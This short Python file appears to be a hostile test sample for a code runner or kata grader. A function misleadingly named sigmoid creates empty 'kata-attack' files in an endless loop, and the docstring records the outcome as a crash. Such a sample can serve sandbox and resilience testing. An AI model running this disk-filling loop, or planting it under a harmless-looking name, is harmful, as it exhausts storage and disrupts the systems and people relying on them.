"""Writes empty files without end.

State: crashed
Says: it wrote more than
"""

import time
from itertools import count
from pathlib import Path


def sigmoid(x):
    for number in count():
        Path(f"kata-attack-{number}").touch()
        time.sleep(1e-4)
